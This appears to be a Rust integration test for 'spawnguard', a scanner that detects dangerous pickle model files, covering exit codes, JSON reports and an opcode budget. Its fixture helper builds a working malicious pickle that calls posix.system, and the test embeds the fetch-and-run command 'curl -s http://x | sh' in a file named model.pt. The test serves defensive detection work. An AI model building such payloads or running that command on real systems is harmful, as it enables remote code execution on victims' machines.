//! `spawnguard scan` as a user runs it: exit codes 0 (clean), 1 (dangerous), 2 (errors), the
//! JSON report, and the per-file work budget (`--max-walk-opcodes`).

use serde_json::Value;
use std::path::Path;
use std::process::{Command, Output};

fn scan(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_spawnguard"))
        .arg("scan")
        .args(args)
        .output()
        .expect("spawnguard runs")
}

fn report(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "JSON report expected ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    })
}

/// Protocol 2: `posix.system(cmd)` when loaded.
fn malicious(cmd: &str) -> Vec<u8> {
    let mut p = b"\x80\x02cposix\nsystem\nq\x00X".to_vec();
    p.extend_from_slice(&(cmd.len() as u32).to_le_bytes());
    p.extend_from_slice(cmd.as_bytes());
    p.extend_from_slice(b"q\x01\x85q\x02Rq\x03.");
    p
}

/// Protocol 2: an object of an unknown class built from `n` small ints (suspicious, and off
/// the fast path: the full walker reads it, one opcode per int and more).
fn unknown_class(n: usize) -> Vec<u8> {
    let mut p = b"\x80\x02cacme.models\nNet\nq\x00(".to_vec();
    for i in 0..n {
        p.extend_from_slice(&[b'K', (i % 256) as u8]);
    }
    p.extend_from_slice(b"tq\x01Rq\x02.");
    p
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let p = dir.join(name);
    std::fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_string()
}

#[test]
fn exit_codes_report_and_work_budget() {
    let dir = tempfile::tempdir().unwrap();
    // An empty dict: safe.
    let safe = write(dir.path(), "weights.bin", b"\x80\x02}q\x00.");
    let out = scan(&["--format", "json", &safe]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(report(&out)["summary"]["safe"], 1);

    // A dangerous file among others: exit 1, and the call is reconstructed.
    let bad = write(dir.path(), "model.pt", &malicious("curl -s http://x | sh"));
    let out = scan(&["--format", "json", dir.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let r = report(&out);
    assert_eq!(r["summary"]["dangerous"], 1);
    let file = r["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == bad)
        .expect("the dangerous file is listed");
    assert!(file.to_string().contains("curl -s http://x | sh"), "{file}");
    std::fs::remove_file(&bad).unwrap();

    // Off the fast path: within the default budget it is judged (suspicious, exit 0 since
    // nothing is dangerous); with a budget of 100 opcodes it is reported with an error
    // (exit 2) and never as safe.
    let big = write(dir.path(), "custom.pkl", &unknown_class(5_000));
    let out = scan(&["--format", "json", &big]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let r = report(&out);
    assert_eq!(r["summary"]["suspicious"], 1, "{r}");
    assert_eq!(r["summary"]["files_with_errors"], 0, "{r}");
    let out = scan(&["--format", "json", "--max-walk-opcodes", "100", &big]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let r = report(&out);
    assert_eq!(r["summary"]["files_with_errors"], 1, "{r}");
    assert_eq!(r["summary"]["safe"], 0, "{r}");
    assert!(r["errors"].to_string().contains("budget"), "{r}");
}
